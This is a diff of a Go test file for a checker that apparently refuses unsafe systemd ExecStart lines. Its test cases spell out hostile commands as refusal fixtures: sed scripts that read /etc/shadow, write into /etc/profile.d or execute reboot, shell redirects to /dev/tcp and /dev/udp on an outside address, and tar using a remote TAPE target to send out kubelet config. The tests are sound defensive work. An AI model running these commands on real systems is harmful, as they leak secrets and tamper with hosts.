@@ -103,11 +103,11 @@ func TestChangedSedScriptsParseAsModeledCommands(t *testing.T) {
 		{"ExecStart=/usr/bin/sed 'R /etc/shadow' /etc/hostname", "does not model: R"},
 		{"ExecStart=/usr/bin/sed 'W /etc/profile.d/zz.sh' /etc/hostname", "does not model: W"},
 		{"ExecStart=/usr/bin/sed -n F /etc/hostname", "does not model: F"},
-		{"ExecStart=/usr/bin/sed '1{e reboot' -e '}' /etc/hostname", "does not model: e"},
+		{"ExecStart=/usr/bin/sed -e '1{e reboot' -e '}' /etc/hostname", "does not model: e"},
 		{"ExecStart=/usr/bin/sed 's/x/y/w /etc/profile.d/zz.sh' /etc/hostname", "w flag"},
 		{"ExecStart=/usr/bin/sed 's/x/y/ge' /etc/hostname", "e flag"},
 		{"ExecStart=/usr/bin/sed '/x/!e' /etc/hostname", "does not model: e"},
-		{"ExecStart=/usr/bin/sed '$!{N;e' -e '}' /etc/hostname", "does not model: e"},
+		{"ExecStart=/usr/bin/sed -e '$!{N;e' -e '}' /etc/hostname", "does not model: e"},
 		{"ExecStart=/usr/bin/sed 'b end; e;:end' /etc/hostname", "does not model: e"},
 		{"ExecStart=/usr/bin/sed ':a e' /etc/hostname", "does not model: e"},
 		// A bracket expression holding the delimiter: sed versions end the field differently.
@@ -117,6 +117,9 @@ func TestChangedSedScriptsParseAsModeledCommands(t *testing.T) {
 		{"ExecStart=/usr/bin/sed '{p' /etc/hostname", "without its }"},
 		{"ExecStart=/usr/bin/sed 'v' /etc/hostname", "does not model: v"},
 		{"ExecStart=/usr/bin/sed --posixx p /etc/hostname", "sed"},
+		// With -e the script is the -e's wherever they stand: '1a\\' is a file, not text swallowing them.
+		{"ExecStart=/usr/bin/sed '1a\\\\' -e ':a;e' /etc/hostname", "does not model: e"},
+		{"ExecStart=/usr/bin/sed /etc/hostname -e ':a;e'", "does not model: e"},
 	}
 	for _, c := range refused {
 		refusedChanged(t, c.why, c.line)
@@ -196,6 +199,11 @@ func TestChangedModeledProgramsActOnlyOnTheNode(t *testing.T) {
 		{"ExecStart=/usr/bin/gawk -D/etc/myapp/app.conf 'BEGIN{x=1}'", "awk -D"},
 		{"ExecStart=/usr/bin/mawk -W exec /etc/myapp/app.conf", "awk -W"},
 		{"ExecStart=/usr/bin/gawk -W file=/etc/myapp/app.conf", "awk -W"},
+		{"ExecStart=/bin/sh -c 'cat < /dev/tcp/203.0.113.7/80 > /run/myapp/x'", "/dev/tcp/"},
+		{"ExecStart=/bin/bash -c 'echo x > /dev/udp/203.0.113.7/53'", "/dev/udp/"},
+		{"Environment=TAPE=203.0.113.7:/x\nExecStart=/usr/bin/tar -c /etc/hostname", "$TAPE"},
+		{"ExecStart=/bin/sh -c 'TAPE=203.0.113.7:/x tar -c /var/lib/kubelet/config.json'", "sets TAPE"},
+		{"ExecStart=/usr/bin/env TAPE=h:x /usr/bin/tar -c /etc/hostname", "sets TAPE"},
 	} {
 		refusedChanged(t, c.why, strings.Split(c.line, "\n")...)
 	}
